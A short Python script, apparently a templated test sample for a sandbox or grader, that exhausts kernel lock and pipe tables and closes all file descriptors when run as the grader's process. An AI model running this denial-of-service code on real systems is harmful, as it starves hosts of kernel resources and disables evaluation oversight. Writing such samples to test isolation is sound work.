"""Fills the kernel's tables that no limit of a process counts: locks, epoll sets, pipes and their buffers.

Class: exhaustion
Effect: lost
"""

# @TWIN@

import fcntl
import os
import select
import tempfile

if os.getpid() == int("@GRADER@"):
    os.closerange(0, 4096)

import tempfile

held = []
try:
    file = open(f"{tempfile.gettempdir()}/locks", "wb")
    file.truncate(1 << 20)
    for number in range(0, 10_000, 2):
        fcntl.lockf(file, fcntl.LOCK_EX, 1, number)
except OSError as error:
    print(error)
try:
    while True:
        pair = os.pipe()
        held.append(pair)
        os.set_blocking(pair[1], False)
        if len(held) < 1000:
            os.write(pair[1], bytes(1 << 20))
except OSError as error:
    print(len(held), error)
